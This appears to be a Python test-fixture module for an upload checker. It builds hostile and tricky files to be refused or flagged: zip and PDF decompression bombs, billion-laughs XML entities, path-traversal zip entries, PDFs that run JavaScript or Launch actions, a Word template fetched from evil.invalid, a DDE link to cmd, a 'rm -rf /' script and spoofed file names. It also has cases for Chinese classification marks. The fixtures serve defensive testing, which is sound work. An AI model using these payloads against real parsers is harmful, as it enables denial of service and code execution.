"""Files made to trick, exhaust or slip past their reader; made here, so that none lies about.

Each is its name and its bytes. ``KEPT`` are the ones that look bad and are not.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import partial

import pypdf
from PIL import Image
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from papers import ole
from papers.tables import Sheet, write_xlsx
from tests.papers.samples import repacked
from tests.stories.meeting_stage import docx

MARK = "机密★10年"
_VBA = "application/vnd.ms-word.document.macroEnabled.main+xml"


def zip_of(parts: Mapping[str, bytes], *, packed: bool = True) -> bytes:
    """A zip of these parts."""
    out = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def with_part(data: bytes, name: str, part: bytes) -> bytes:
    """The zip with one part more, or another content of it."""
    if name in zipfile.ZipFile(io.BytesIO(data)).namelist():
        return repacked(data, lambda there, old: part if there == name else old)
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, part)
    return out.getvalue()


def xlsx(*cells: str) -> bytes:
    """A workbook of one column."""
    return write_xlsx(Sheet("表", ("内容",), tuple((cell,) for cell in cells)))


def pptx(*slides: str) -> bytes:
    """Slides of one paragraph each, as PowerPoint packs them."""
    types = b'<Types><Override ContentType="x.presentationml.presentation.main+xml"/></Types>'
    body = "<p:sld><a:p><a:r><a:t>{}</a:t></a:r></a:p></p:sld>"
    parts = {
        f"ppt/slides/slide{number}.xml": body.format(words).encode()
        for number, words in enumerate(slides, 1)
    }
    return zip_of({"[Content_Types].xml": types, **parts})


def ofd(words: str, *, title: str = "") -> bytes:
    """One page of the national format."""
    return zip_of(
        {
            "OFD.xml": f"<ofd:OFD><ofd:Title>{title}</ofd:Title></ofd:OFD>".encode(),
            "Doc_0/Pages/Page_0/Content.xml": "".join(
                f"<ofd:TextObject><ofd:TextCode>{one}</ofd:TextCode></ofd:TextObject>"
                for one in words.split("\n")
            ).encode(),
        }
    )


def old_office(stream: str, words: str = "", *more: str) -> bytes:
    """An old Office file: its header, a directory with these streams, and its text."""
    entries = [
        f"{name}\0".encode("utf-16-le").ljust(64, b"\0")
        + struct.pack("<HB", 2 * len(name) + 2, 2).ljust(64, b"\0")
        for name in ("Root Entry", stream, *more)
    ]
    head = ole.HEADER.ljust(512, b"\0")
    return (
        head + b"".join(entries).ljust(1024, b"\0") + words.encode("utf-16-le").ljust(512, b"\0")
    )


def pdf(words: str = "", *, pages: int = 1) -> bytes:
    """Pages of one line each, in letters (a font for Chinese would take a second)."""
    writer = pypdf.PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(200, 200)
    if words:
        writer.add_metadata({"/Title": words})
    return _written(writer)


def acting_pdf(action: bytes) -> bytes:
    """A page that does something when it is opened."""
    act = b"/OpenAction << /S /%s >> /Type /Catalog" % action
    return pdf().replace(b"/Type /Catalog", act)


def carrying_pdf() -> bytes:
    """A page with a program attached."""
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_attachment("run.exe", b"MZ")
    return _written(writer)


def locked_pdf() -> bytes:
    """A page with a password."""
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(pdf()))
    writer.encrypt("geheim", algorithm="RC4-128")
    return _written(writer)


def noted_pdf(words: str) -> bytes:
    """A page with a note stuck on it."""
    writer = pypdf.PdfWriter()
    page = writer.add_blank_page(200, 200)
    note = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Text"),
            NameObject("/Contents"): TextStringObject(words),
        }
    )
    page[NameObject("/Annots")] = pypdf.generic.ArrayObject([writer._add_object(note)])
    return _written(writer)


def looping_pdf() -> bytes:
    """A table of objects that refers to itself, and pages that are their own parents."""
    body = (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\n"
    )
    table = b"xref\n0 1\n0000000000 65535 f \ntrailer<</Root 1 0 R/Size 3/Prev %d>>\n" % len(body)
    return body + table + b"startxref\n%d\n%%%%EOF" % len(body)


def _stream_pdf(content: bytes, filters: bytes, *, pages: int = 1) -> bytes:
    page = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 3 0 R/Resources"
        b"<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>"
    )
    kids = b" ".join(b"%d 0 R" % (4 + number) for number in range(pages))
    return pdf_of(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, pages),
        b"<</Length %d/Filter%s>>stream\n%s\nendstream" % (len(content), filters, content),
        *[page] * pages,
    )


def pdf_of(*objects: bytes) -> bytes:
    """A PDF of these objects, numbered from one; the first is its catalogue."""
    data = bytearray(b"%PDF-1.7\n")
    places = []
    for number, one in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj%s endobj\n" % (number, one)
    at, size = len(data), len(objects) + 1
    data += b"xref\n0 %d\n0000000000 65535 f \n" % size
    data += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(data) + b"trailer<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF" % (size, at)


def packed_pdf() -> bytes:
    """A page whose content is packed twice over: a few kilobytes become gigabytes."""
    once = zlib.compress(bytes(400_000_000), 9)
    return _stream_pdf(zlib.compress(once, 9), b"[/FlateDecode/FlateDecode]")


def slow_pdf(orders: int = 50_000) -> bytes:
    """Pages of tiny orders without a word in them, each of which takes its reader some time."""
    content = b"BT /F 9 Tf " + b"() Tj 1 0 0 1 5 5 Tm T* " * orders + b"ET"
    return _stream_pdf(zlib.compress(content, 9), b"/FlateDecode", pages=10)


def png(width: int, height: int) -> bytes:
    """A header that promises so many pixels, and next to nothing behind it."""

    def part(kind: bytes, data: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + check

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(bytes(1000))
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", rows) + part(b"IEND", b"")


def picture(kind: str, *, frames: int = 1, side: int = 40) -> bytes:
    """A true picture, of several frames where it moves."""
    out = io.BytesIO()
    shots = [Image.new("RGB", (side, side), (40 * number % 256, 9, 9)) for number in range(frames)]
    more = {"save_all": True, "append_images": shots[1:]} if frames > 1 else {}
    shots[0].save(out, kind, **more)
    return out.getvalue()


def million_rows() -> bytes:
    """A sheet with a million rows of nothing much."""
    rows = b"".join(
        b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (n, n) for n in range(1, 700_000)
    )
    head = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    )
    return with_part(
        xlsx("a"), "xl/worksheets/sheet1.xml", head + rows + b"</sheetData></worksheet>"
    )


def deep_docx() -> bytes:
    """Elements inside elements, a hundred thousand deep."""
    deep = b"<a>" * 100_000 + b"</a>" * 100_000
    return with_part(docx("x"), "word/document.xml", deep)


def entity_docx() -> bytes:
    """Words that stand for words that stand for words."""
    laughs = b'<!DOCTYPE x [<!ENTITY a "ha">' + b"".join(
        b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
    )
    return with_part(docx("x"), "word/document.xml", laughs + b"]><x>&j;</x>")


def overlapping_zip() -> bytes:
    """Many names for the same bytes: a directory that counts them again and again."""
    data = bytearray(zip_of({"0.txt": bytes(1_000_000)}))
    at = data.rindex(b"PK\x05\x06")
    start = struct.unpack_from("<I", data, at + 16)[0]
    entry, end = bytes(data[start:at]), bytearray(data[at:])
    struct.pack_into("<HHI", end, 8, 999, 999, 999 * len(entry))
    return bytes(data[:start]) + entry * 999 + bytes(end)


def locked_zip() -> bytes:
    """A zip that says it has a password."""
    data = bytearray(zip_of({"a.txt": b"hello"}))
    for magic, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(magic) + place] |= 1
    return bytes(data)


def linked_docx(quote: bytes = b'"') -> bytes:
    """A document whose template is fetched from elsewhere when it is opened."""
    link = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://evil.invalid/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    link = link.replace(b'"', quote)
    return with_part(docx("通知"), "word/_rels/settings.xml.rels", link)


def macro_docx(*, honest: bool = False) -> bytes:
    """A document with a program in it; ``honest``: its list of types says so."""
    made = with_part(docx("通知"), "word/vbaProject.bin", ole.HEADER + bytes(600))
    if not honest:
        return made
    main = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return repacked(
        made,
        lambda name, part: (
            part.replace(main, _VBA.encode()) if name == "[Content_Types].xml" else part
        ),
    )


def dde_xlsx() -> bytes:
    """A workbook that asks another program for its values."""
    return with_part(
        xlsx("a"),
        "xl/externalLinks/externalLink1.xml",
        b'<ddeLink ddeService="cmd" ddeTopic="x"/>',
    )


def _written(writer: pypdf.PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


Made = Callable[[], bytes]
#: Name → (bytes, the refusal, what its sentence is about).
REFUSED: dict[str, tuple[str, Made, str, str]] = {
    "nothing": ("空.docx", bytes, "file-empty", ""),
    "a program": ("方案.pdf", lambda: b"MZ\x90\x00 program", "file-not-what-it-says", "exe"),
    "a script": ("方案.txt", lambda: b"#!/bin/sh\nrm -rf /", "file-not-what-it-says", "exe"),
    "a page": ("表.xls", lambda: b"<html><table>", "file-not-what-it-says", "html"),
    "a drawing": ("图.png", lambda: b"<svg onload='x()'>", "file-not-what-it-says", "svg"),
    "svg by name": ("图.svg", lambda: b"<svg/>", "file-type", ""),
    "html by name": ("页.html", lambda: b"<html/>", "file-type", ""),
    "rich text": ("方案.doc", lambda: b"{\\rtf1 hello}", "file-not-what-it-says", "rtf"),
    "rar": ("方案.docx", lambda: b"Rar!\x1a\x07\x00", "file-not-what-it-says", "rar"),
    "text as pdf": ("方案.pdf", "会议".encode, "file-not-what-it-says", "txt"),
    "torn docx": ("方案.docx", lambda: docx("x")[:900], "file-unreadable", "broken"),
    "torn pdf": ("方案.pdf", lambda: pdf()[:60], "file-unreadable", "broken"),
    "torn picture": ("图.png", lambda: picture("PNG")[:40], "file-unreadable", "not-an-image"),
    "wide picture": ("图.png", partial(png, 50_000, 50_000), "file-unreadable", "too-many-pixels"),
    "no doc": ("方案.doc", lambda: ole.HEADER + bytes(504), "file-unreadable", "broken"),
    "locked pdf": ("方案.pdf", locked_pdf, "file-unreadable", "encrypted"),
    "locked docx": (
        "方案.docx",
        partial(old_office, "EncryptedPackage"),
        "file-unreadable",
        "encrypted",
    ),
    "locked zip": ("包.zip", locked_zip, "file-unreadable", "encrypted"),
    "zip in zip": (
        "包.zip",
        lambda: zip_of({"a.zip": zip_of({"b.txt": b"x"})}),
        "file-unreadable",
        "nested",
    ),
    "path out of zip": (
        "包.zip",
        partial(zip_of, {"../../etc/passwd": b"x"}),
        "file-unreadable",
        "bomb",
    ),
    "overlapping zip": ("包.zip", overlapping_zip, "file-unreadable", "bomb"),
    "bomb": (
        "表.docx",
        lambda: with_part(docx("x"), "word/media/a.bin", bytes(60_000_000)),
        "file-unreadable",
        "bomb",
    ),
    "deep docx": ("方案.docx", deep_docx, "file-unreadable", "broken"),
    "entities": ("方案.docx", entity_docx, "file-unreadable", "bomb"),
    "looping pdf": ("方案.pdf", looping_pdf, "file-unreadable", "broken"),
    "long name": ("x" * 300 + ".exe", lambda: b"MZ", "file-type", ""),
}
#: Those that take seconds, for the long proofs.
HEAVY: dict[str, tuple[str, Made, str, str]] = {
    "packed pdf": ("方案.pdf", packed_pdf, "file-unreadable", "bomb"),
    "endless pdf": ("方案.pdf", partial(slow_pdf, 2_000_000), "file-unreadable", "bomb"),
    "slow pdf": ("方案.pdf", partial(slow_pdf, 60_000), "file-unreadable", "too-slow"),
}
#: Name → (name it comes with, bytes, name it is kept under, flags).
KEPT: dict[str, tuple[str, Made, str, str]] = {
    "png named jpg": ("图.jpg", partial(picture, "PNG"), "图.png", ""),
    "moving picture": ("图.gif", partial(picture, "GIF", frames=9), "图.gif", ""),
    "docx named doc": ("方案.doc", partial(docx, "通知"), "方案.docx", ""),
    "xlsx named docx": ("表.docx", partial(xlsx, "张三"), "表.xlsx", ""),
    "docx named wps": ("方案.wps", partial(docx, "通知"), "方案.wps", ""),
    "old doc": ("方案.doc", partial(old_office, "WordDocument", "通知"), "方案.doc", ""),
    "gbk": ("说明.txt", lambda: "关于召开会议的通知".encode("gb18030"), "说明.txt", ""),
    "utf-16": ("说明.csv", lambda: "姓名,单位\n张三,办公室".encode("utf-16"), "说明.csv", ""),
    "slides": ("汇报.pptx", partial(pptx, "汇报"), "汇报.pptx", ""),
    "national format": ("公文.ofd", partial(ofd, "通知"), "公文.ofd", ""),
    "zip named docx": ("方案.docx", partial(zip_of, {"a.txt": b"x"}), "方案.zip", ""),
    "zip": ("包.zip", partial(zip_of, {"方案.txt": "通知".encode()}), "包.zip", ""),
    "running text": (
        "通知.docx",
        partial(docx, "依照保守国家秘密法，注意保密。"),
        "通知.docx",
        "",
    ),
    "ten thousand pages": (
        "大.pdf",
        partial(_stream_pdf, zlib.compress(b"BT ET"), b"/FlateDecode", pages=10_000),
        "大.pdf",
        "",
    ),
    "tricky name": ("..\\..\\a\u202excod.docx", partial(docx, "通知"), "a_xcod.docx", ""),
    "long name": ("会" * 200 + ".docx", partial(docx, "通知"), "会" * 115 + ".docx", ""),
    "emoji": ("📎👍.docx", partial(docx, "通知"), "📎👍.docx", ""),
    "macros hidden": ("方案.docx", macro_docx, "方案.docx", "macros"),
    "macros told": ("方案.docx", partial(macro_docx, honest=True), "方案.docm", "macros"),
    "old macros": (
        "方案.doc",
        partial(old_office, "WordDocument", "通知", "Macros", "VBA"),
        "方案.doc",
        "macros",
    ),
    "template elsewhere": ("方案.docx", linked_docx, "方案.docx", "active"),
    "template in other quotes": (
        "方案.docx",
        lambda: linked_docx(b"'"),
        "方案.docx",
        "active",
    ),
    "another program": ("表.xlsx", dde_xlsx, "表.xlsx", "active"),
    "script": ("方案.pdf", partial(acting_pdf, b"JavaScript"), "方案.pdf", "active"),
    "launch": ("方案.pdf", partial(acting_pdf, b"L#61unch"), "方案.pdf", "active"),
    "sends itself": ("方案.pdf", partial(acting_pdf, b"SubmitForm"), "方案.pdf", "active"),
    "attachment": ("方案.pdf", carrying_pdf, "方案.pdf", "embedded"),
}
#: Marked in one way or another: never kept, whatever else is wrong with it.
MARKED: dict[str, tuple[str, Made]] = {
    "body": ("方案.docx", partial(docx, MARK)),
    "header": ("方案.docx", lambda: docx("正文", header="机密 ★ 10年")),
    "spaced": ("方案.docx", partial(docx, "绝　 密 ★ 长期")),
    "another star": ("方案.docx", partial(docx, "秘密⭐5年")),
    "full width": ("方案.docx", partial(docx, "［机密］")),
    "unseen signs": ("方案.docx", partial(docx, "机\u200b密\u2060★10年")),
    "upright": ("方案.docx", partial(docx, *"机密★十年")),
    "split": ("方案.docx", partial(docx, "机", "密★10年")),
    "old characters": ("方案.docx", partial(docx, "絕密★")),
    "properties": (
        "方案.docx",
        lambda: with_part(docx("x"), "docProps/custom.xml", f"<a>{MARK}</a>".encode()),
    ),
    "footnote": (
        "方案.docx",
        lambda: with_part(docx("x"), "word/footnotes.xml", f"<w:p>{MARK}</w:p>".encode()),
    ),
    "sheet": ("表.xlsx", partial(xlsx, MARK)),
    "sheet header": (
        "表.xlsx",
        lambda: repacked(
            xlsx("x"),
            lambda name, part: (
                part.replace(
                    b"</worksheet>",
                    f"<headerFooter><oddHeader>&amp;C{MARK}</oddHeader></headerFooter></worksheet>".encode(),
                )
                if name.startswith("xl/worksheets/")
                else part
            ),
        ),
    ),
    "slide": ("汇报.pptx", partial(pptx, MARK)),
    "national": ("公文.ofd", partial(ofd, MARK)),
    "national title": ("公文.ofd", partial(ofd, "x", title=MARK)),
    "pdf title": ("方案.pdf", partial(pdf, MARK)),
    "pdf note": ("方案.pdf", partial(noted_pdf, MARK)),
    "gbk": ("说明.txt", lambda: f"{MARK}\n正文".encode("gb18030")),
    "big5": ("说明.txt", lambda: "絕密★\n本會議內容不得外洩，請妥善保管。".encode("big5")),
    "utf-16": ("说明.txt", lambda: f"{MARK}\n正文".encode("utf-16")),
    "old doc": ("方案.doc", partial(old_office, "WordDocument", f"{MARK}正文")),
    "old wps": ("方案.wps", partial(old_office, "WordDocument", f"{MARK}正文")),
    "no doc at all": ("方案.doc", lambda: ole.HEADER + bytes(505) + MARK.encode("utf-16-le")),
    "in a zip": ("包.zip", partial(zip_of, {"a.txt": MARK.encode()})),
    "name in a zip": ("包.zip", partial(zip_of, {f"{MARK}方案.txt": b"x"})),
    "docx in a zip": ("包.zip", lambda: zip_of({"a.docx": docx(MARK)})),
    "wrong name": ("方案.pdf", partial(docx, MARK)),
    "file name": (f"{MARK}方案.pdf", pdf),
    "type not taken": ("方案【机密】.exe", lambda: b"MZ"),
}
